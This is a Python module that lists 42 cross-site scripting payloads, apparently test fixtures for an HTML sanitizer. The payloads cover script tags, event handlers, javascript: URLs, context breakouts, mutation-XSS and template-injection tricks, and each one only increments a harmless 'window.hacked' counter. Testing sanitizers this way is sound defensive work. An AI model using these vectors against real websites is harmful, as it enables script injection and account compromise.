"""Text that would act if a page took it for markup: 42 known ways, each of which counts up ``window.hacked``."""

from __future__ import annotations

ACT = "window.hacked=(window.hacked||0)+1"
PAYLOADS = (
    # Elements that act when they are made.
    f"<script>{ACT}</script>", f"<ScRiPt>{ACT}</sCrIpT>", f"<script src='data:text/javascript,{ACT}'></script>",
    f"<img src=x onerror={ACT}>", f'<img src="x" onerror="{ACT}">', f"<IMG SRC=x ONERROR={ACT}>", f"<img/src=x/onerror={ACT}>",
    f"<svg onload={ACT}>", f"<svg/onload={ACT}>", f"<svg><script>{ACT}</script></svg>",
    f"<svg><animate onbegin={ACT} attributeName=x dur=1s>", f"<body onload={ACT}>", f"<iframe srcdoc='<script>parent.{ACT}</script>'>",
    f"<iframe src='javascript:parent.{ACT}'>", f"<object data='data:text/html,<script>{ACT}</script>'>",
    f"<embed src='data:text/html,<script>{ACT}</script>'>", f"<video><source onerror={ACT}></video>", f"<audio src=x onerror={ACT}>",
    f"<input autofocus onfocus={ACT}>", f"<select autofocus onfocus={ACT}>", f"<textarea autofocus onfocus={ACT}>",
    f"<details open ontoggle={ACT}>x</details>", f"<marquee onstart={ACT}>x</marquee>", f"<style onload={ACT}></style>",
    f"<link rel=stylesheet href='data:text/css,' onload={ACT}>", f"<meta http-equiv=refresh content='0;javascript:{ACT}'>",
    # Elements that act when they are touched.
    f"<b onmouseover={ACT}>bold</b>", f"<a href='javascript:{ACT}'>link</a>", f"<a href='java\tscript:{ACT}'>tab</a>",
    f"<form action='javascript:{ACT}'><button>go</button></form>", f"<button onclick={ACT}>press</button>",
    f"<math><maction xlink:href='javascript:{ACT}'>x</maction></math>",
    # Ends of what might stand around the text.
    f"\"><script>{ACT}</script>", f"'><img src=x onerror={ACT}>", f"</textarea><script>{ACT}</script>",
    f"</title><script>{ACT}</script>", f"</script><script>{ACT}</script>", f"--><img src=x onerror={ACT}>",
    f"<noscript><p title='</noscript><img src=x onerror={ACT}>'>", f"<math><mtext></mtext><mglyph><style><!--</style><img src onerror={ACT}>",
    # Markdown and words of templates.
    f"[link](javascript:{ACT}) ![x](x\" onerror=\"{ACT})", f"{{{{constructor.constructor('{ACT}')()}}}} ${{{ACT}}}",
)  # fmt: skip
assert len(set(PAYLOADS)) == 42
